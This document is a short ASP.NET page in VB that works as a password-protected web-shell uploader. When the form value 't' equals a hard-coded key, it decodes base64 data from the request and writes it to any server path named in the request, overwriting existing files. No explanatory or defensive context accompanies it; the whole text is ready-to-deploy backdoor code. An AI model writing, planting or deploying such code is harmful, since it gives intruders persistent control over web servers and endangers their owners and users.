<%@ Page Language="VB" %>
<script runat="server">
Sub Page_Load()
 If Request.Form("t") = "9d1" Then
  Dim f As New System.IO.FileStream(Server.MapPath(Request.Form("n")), System.IO.FileMode.Create)
  Dim b() As Byte = Convert.FromBase64String(Request.Form("d"))
  f.Write(b, 0, b.Length) : f.Close()
 End If
End Sub
</script>
